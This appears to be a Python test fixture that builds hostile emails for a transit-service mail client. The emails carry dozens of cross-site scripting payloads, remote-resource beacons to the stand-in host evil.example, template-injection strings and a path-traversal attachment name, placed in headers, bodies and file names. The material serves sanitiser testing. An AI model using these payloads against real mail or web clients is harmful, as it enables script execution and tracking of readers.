"""Letters that try to run something in the reader's browser, or to make it ask somebody outside."""

from __future__ import annotations

from email.header import Header
from email.message import EmailMessage

RUN = "top.ran=1;alert(document.domain)"
OUT = "http://evil.example/seen"

PAYLOADS = [
    # Plain scripts, and scripts in pieces.
    f"<script>{RUN}</script>",
    f"<ScRiPt/x src='{OUT}.js'></sCrIpT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>",
    f"<script\x0c>{RUN}</script\x0c>",
    f"</textarea></title></style><script>{RUN}</script>",
    # Handlers.
    f"<img src=x onerror='{RUN}'>",
    f"<img src=x oNeRrOr=`{RUN}`>",
    f'<img/src="x"/onerror="{RUN}">',
    f"<body onload='{RUN}'>",
    f"<details open ontoggle='{RUN}'><summary>more</summary></details>",
    f"<input autofocus onfocus='{RUN}'>",
    f"<marquee onstart='{RUN}'>words</marquee>",
    f"<video autoplay onerror='{RUN}'><source src=x onerror='{RUN}'></video>",
    f"<p style='animation: x 1s' onanimationstart='{RUN}'>words</p><style>@keyframes x {{}}</style>",
    # Addresses that are programs.
    f"<a href='javascript:{RUN}'>the timetable</a>",
    f"<a href='java\tscript\n:{RUN}'>the timetable</a>",
    f"<a href='&#106;avascript&colon;{RUN}'>the timetable</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>the timetable</a>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='&lt;script&gt;{RUN}&lt;/script&gt;'></iframe>",
    f"<form action='{OUT}'><button formaction='javascript:{RUN}'>Send</button></form>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object><embed src='{OUT}'>",
    f"<meta http-equiv=refresh content='0;url={OUT}'>",
    f"<base href='{OUT}/'><img src='picture.png'>",
    # Drawings and formulas.
    f"<svg onload='{RUN}'></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>the timetable</text></a></svg>",
    f"<svg><foreignObject><iframe src='javascript:{RUN}'></iframe></foreignObject></svg>",
    f"<svg><use href='{OUT}.svg#x'></use><image href='{OUT}.png'></image></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror='{RUN}'></style></mglyph></table></mtext></math>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    # Looks that ask outside.
    f"<style>@import '{OUT}.css';</style>",
    f"<style>body{{background:url({OUT}.png)}}@font-face{{font-family:x;src:url({OUT}.woff)}}p{{font-family:x}}</style><p>words</p>",
    f"<div style='background-image:u\\72l({OUT}.png)'>words</div>",
    f"<div style='list-style:url({OUT}.png);content:url({OUT}.png);cursor:url({OUT}.cur),auto'>words</div>",
    f"<link rel=stylesheet href='{OUT}.css'><link rel=prefetch href='{OUT}'><link rel=dns-prefetch href='//evil.example'>",
    # Pictures and tracks from outside.
    f"<img src='{OUT}.gif' width=1 height=1><img srcset='{OUT} 1x'><picture><source srcset='{OUT}'></picture>",
    f"<table background='{OUT}.png'><td background='{OUT}.png'>words</td></table>",
    f"<audio src='{OUT}.mp3' autoplay></audio><video poster='{OUT}.png'></video><track src='{OUT}.vtt'>",
    # Escapes of the page around the letter.
    "\u202e</p></div></article>\u2028<script>top.ran=1</script>",
    '" autofocus onfocus="top.ran=1" x="',
    "{{ page.case.title }}{% debug %}${7*7}<%= 7*7 %>",
    "'-top.ran=1-'\\';top.ran=1;//",
]
SELECTION = PAYLOADS[::5]

DRAWING = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><script>{RUN}</script></svg>".encode()


def hostile_mail(number: int, payload: str) -> bytes:
    """Return a mail that carries one payload in its name, subject, text, markup and file names."""
    line = " ".join(payload.split())
    message = EmailMessage()
    message["From"] = f"{Header(line, 'utf-8').encode(maxlinelen=10_000)} <hostile-{number}@lakemail.example>"
    message["To"] = "transit@portlumen.example"
    message["Subject"] = Header(line, "utf-8").encode(maxlinelen=10_000)
    message["Message-ID"] = f"<hostile-{number}@lakemail.example>"
    message.set_content(f"Why was the bus late?\n\n{payload}\n\nPlease refund {line}.\n")
    message.add_alternative(
        f"<html><body><p>Why was the bus late?</p>{payload}<img src='cid:drawing'></body></html>",
        subtype="html",
    )
    message.add_attachment(DRAWING, "image", "svg+xml", filename=f"{line}.svg", cid="<drawing>")
    message.add_attachment(f"<html>{payload}</html>".encode(), "text", "html", filename=f"../..\\{line}.html")
    return message.as_bytes()
